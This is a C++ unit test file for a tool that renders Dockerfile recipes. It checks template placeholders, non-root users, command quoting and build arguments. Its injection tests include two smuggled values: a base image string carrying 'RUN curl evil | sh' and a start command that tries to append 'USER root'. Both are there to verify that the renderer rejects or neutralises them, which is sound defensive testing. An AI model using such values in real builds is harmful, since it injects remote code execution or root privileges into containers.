#define CAF_SUITE nodes.recipe
#include <caf/test/unit_test.hpp>

#include <fstream>

#include <nlohmann/json.hpp>

#include "config/settings.hpp"
#include "nodes/recipe.hpp"
#include "protocol/error.hpp"
#include "tests/fixtures/services.hpp"

using namespace gilgal;

namespace {

const std::string recipes_dir = std::string(GILGAL_TEST_SOURCE_DIR) + "/../config/recipes";

detection make(const std::string& framework, const std::string& start = "") {
  detection d;
  d.framework = framework;
  d.start_command = start;
  return d;
}

rendered_recipe render(const detection& d, const base_images& images = {},
                       const std::string& source_dir = "/nonexistent") {
  auto r = render_recipe(d, images, recipes_dir, source_dir);
  if (!r)
    CAF_FAIL("render failed: " << message_of(r.error()));
  return *r;
}

bool contains(const std::string& haystack, const std::string& needle) {
  return haystack.find(needle) != std::string::npos;
}

/// The last USER instruction of a Dockerfile (the user the container runs as).
std::string final_user(const std::string& dockerfile) {
  std::string user;
  size_t pos = 0;
  while ((pos = dockerfile.find("\nUSER ", pos)) != std::string::npos) {
    auto end = dockerfile.find('\n', pos + 1);
    user = dockerfile.substr(pos + 6, end - pos - 6);
    pos = end;
  }
  return user;
}

/// Lines that are not comments.
std::string instructions(const std::string& dockerfile) {
  std::string out;
  size_t begin = 0;
  while (begin < dockerfile.size()) {
    auto end = dockerfile.find('\n', begin);
    if (end == std::string::npos)
      end = dockerfile.size();
    auto line = dockerfile.substr(begin, end - begin);
    if (line.empty() || line[0] != '#')
      out += line + "\n";
    begin = end + 1;
  }
  return out;
}

} // namespace

CAF_TEST(template placeholders) {
  auto r = render_template("# {{KEEP}} in a comment\nFROM {{A}} AS b\nRUN {{A}}{{B}}\n",
                           {{"A", "x"}, {"B", "y"}});
  CAF_REQUIRE(r);
  CAF_CHECK_EQUAL(*r, "# {{KEEP}} in a comment\nFROM x AS b\nRUN xy\n");
  auto missing = render_template("FROM {{NOPE}}\n", {});
  CAF_REQUIRE(!missing);
  CAF_CHECK(contains(message_of(missing.error()), "NOPE"));
  CAF_CHECK(!render_template("FROM {{A\n", {{"A", "x"}}));
}

CAF_TEST(every recipe renders with filled placeholders and a non-root user) {
  base_images images;
  images.node = "gilgal-base/node:bookworm";
  images.python = "gilgal-base/python:bookworm";
  images.nginx = "gilgal-base/nginx:bookworm";
  for (auto fw : {"nextjs", "react", "nodejs", "django", "python", "static"}) {
    CAF_MESSAGE("recipe " << fw);
    auto r = render(make(fw, "npm start"), images);
    auto body = instructions(r.dockerfile);
    CAF_CHECK_EQUAL(r.framework, fw);
    CAF_CHECK(!r.from_repository);
    CAF_CHECK_EQUAL(r.dockerfile_name, "Dockerfile.gilgal");
    CAF_CHECK(!contains(body, "{{"));
    CAF_CHECK(contains(body, "FROM gilgal-base/"));
    CAF_CHECK(contains(body, "ENV") && contains(body, "PORT=8080"));
    CAF_CHECK(contains(body, "EXPOSE 8080"));
    auto user = final_user(r.dockerfile);
    CAF_CHECK(!user.empty());
    CAF_CHECK_NOT_EQUAL(user, "root");
    CAF_CHECK_NOT_EQUAL(user, "0");
    CAF_CHECK(contains(body, "useradd") && contains(body, "adduser"));
  }
  auto node = render(make("nodejs", "npm start"), images).dockerfile;
  CAF_CHECK(contains(node, "FROM gilgal-base/node:bookworm AS build"));
  CAF_CHECK(contains(node, "npm ci"));
  CAF_CHECK(contains(node, "CMD [\"/bin/sh\", \"-c\", \"exec npm start\"]"));
  auto react = render(make("react"), images).dockerfile;
  CAF_CHECK(contains(react, "FROM gilgal-base/node:bookworm AS build"));
  CAF_CHECK(contains(react, "FROM gilgal-base/nginx:bookworm"));
  auto py = render(make("python", "python main.py"), images).dockerfile;
  CAF_CHECK(contains(py, "FROM gilgal-base/python:bookworm"));
  CAF_CHECK(contains(py, "\"exec python main.py\""));
}

CAF_TEST(default images are the official ones) {
  auto r = render(make("nodejs", "npm start"));
  CAF_CHECK(contains(r.dockerfile, "FROM node:20-bookworm-slim"));
  CAF_CHECK(contains(render(make("static")).dockerfile, "FROM nginx:"));
  CAF_CHECK(contains(render(make("python", "python app.py")).dockerfile, "FROM python:"));
}

CAF_TEST(start command is a safely quoted json string) {
  std::string cmd = "gunicorn app:app --bind \"0.0.0.0:$PORT\" && echo '\\done'";
  auto r = render(make("python", cmd));
  auto pos = r.dockerfile.find("CMD [\"/bin/sh\", \"-c\", ");
  CAF_REQUIRE(pos != std::string::npos);
  auto end = r.dockerfile.find('\n', pos);
  auto json = nlohmann::json::parse(r.dockerfile.substr(pos + 4, end - pos - 4));
  CAF_REQUIRE(json.is_array());
  CAF_REQUIRE_EQUAL(json.size(), 3u);
  // Not a simple command (&&): no exec prefix, text unchanged.
  CAF_CHECK_EQUAL(json[2].get<std::string>(), cmd);
  CAF_CHECK_EQUAL(start_command_for_cmd("node server.js"), "exec node server.js");
  CAF_CHECK_EQUAL(start_command_for_cmd("exec node server.js"), "exec node server.js");
  CAF_CHECK_EQUAL(start_command_for_cmd("a; b"), "a; b");
  // A newline cannot break out of the CMD line.
  auto evil = render(make("python", "x\nUSER root"));
  CAF_CHECK_EQUAL(final_user(evil.dockerfile), "gilgal");
}

CAF_TEST(repository dockerfile is used as it is) {
  auto dir = test::make_temp_dir("gilgal-recipe");
  std::ofstream(dir + "/Dockerfile") << "FROM scratch\nCOPY x /x\n";
  auto r = render(make("dockerfile"), {}, dir);
  CAF_CHECK(r.from_repository);
  CAF_CHECK_EQUAL(r.dockerfile_name, "Dockerfile");
  CAF_CHECK_EQUAL(r.dockerfile, "FROM scratch\nCOPY x /x\n");
  std::ofstream(dir + "/Dockerfile") << "FROM scratch\nCOPY y /y\n";
  CAF_CHECK_EQUAL(render(make("dockerfile"), {}, dir).dockerfile, "FROM scratch\nCOPY y /y\n");
  test::remove_tree(dir);
  auto missing = render_recipe(make("dockerfile"), {}, recipes_dir, dir);
  CAF_REQUIRE(!missing);
  CAF_CHECK_EQUAL(code_of(missing.error()), errc::build_failed);
}

CAF_TEST(bad inputs are refused) {
  base_images bad;
  bad.node = "node:20\nRUN curl evil | sh";
  auto r = render_recipe(make("nodejs", "npm start"), bad, recipes_dir, "/x");
  CAF_REQUIRE(!r);
  CAF_CHECK_EQUAL(code_of(r.error()), errc::invalid_argument);
  CAF_CHECK(contains(message_of(r.error()), "images.node"));
  auto unknown = render_recipe(make("cobol"), {}, recipes_dir, "/x");
  CAF_REQUIRE(!unknown);
  CAF_CHECK_EQUAL(code_of(unknown.error()), errc::invalid_argument);
  auto no_dir = render_recipe(make("static"), {}, "/nonexistent-recipes", "/x");
  CAF_REQUIRE(!no_dir);
  CAF_CHECK_EQUAL(code_of(no_dir.error()), errc::internal);
}

CAF_TEST(build variables become ARGs of the build stage only) {
  for (auto* fw : {"nextjs", "react", "nodejs", "python", "django"}) {
    CAF_MESSAGE("recipe " << fw);
    auto r = render_recipe(make(fw, "npm start"), {}, recipes_dir, "/nonexistent",
                           {"NEXT_PUBLIC_API", "VITE_API_URL", "REACT_APP_MODE"});
    CAF_REQUIRE(r);
    auto text = instructions(r->dockerfile);
    auto build_stage = text.find(" AS build\n");
    CAF_REQUIRE(build_stage != std::string::npos);
    auto final_stage = text.find("\nFROM ", build_stage);
    CAF_REQUIRE(final_stage != std::string::npos);
    for (auto* name : {"NEXT_PUBLIC_API", "VITE_API_URL", "REACT_APP_MODE"}) {
      auto arg = text.find(std::string{"\nARG "} + name + "\n");
      CAF_CHECK(arg > build_stage && arg < final_stage); // in the build stage
      CAF_CHECK_EQUAL(text.find(std::string{"ARG "} + name, final_stage), std::string::npos);
      // Declared before the source is copied and built.
      CAF_CHECK(arg < text.find("\nCOPY . .\n", build_stage));
    }
    // Another set of names is another recipe.
    auto plain = render(make(fw, "npm start"));
    CAF_CHECK(plain.dockerfile != r->dockerfile);
    CAF_CHECK(!contains(instructions(plain.dockerfile), "ARG "));
  }
  CAF_CHECK_EQUAL(build_arg_lines({}), "");
  CAF_CHECK_EQUAL(build_arg_lines({"A", "B_2"}), "ARG A\nARG B_2");
}
